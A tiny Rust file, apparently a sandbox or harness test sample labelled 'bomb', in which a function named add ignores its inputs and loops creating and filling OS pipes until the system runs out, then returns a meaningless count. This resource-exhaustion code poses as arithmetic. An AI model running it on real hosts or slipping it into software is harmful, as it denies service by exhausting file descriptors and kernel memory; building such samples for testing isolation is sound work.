// Tries: fill pipes without end
// Kind: bomb

use std::io::Write;

pub fn add(_: i64, _: i64) -> i64 {
    let mut all = Vec::new();
    while let Ok((reader, mut writer)) = std::io::pipe() { let _ = writer.write(&[0; 65536]); all.push((reader, writer)); }
    all.len() as i64 + 1
}
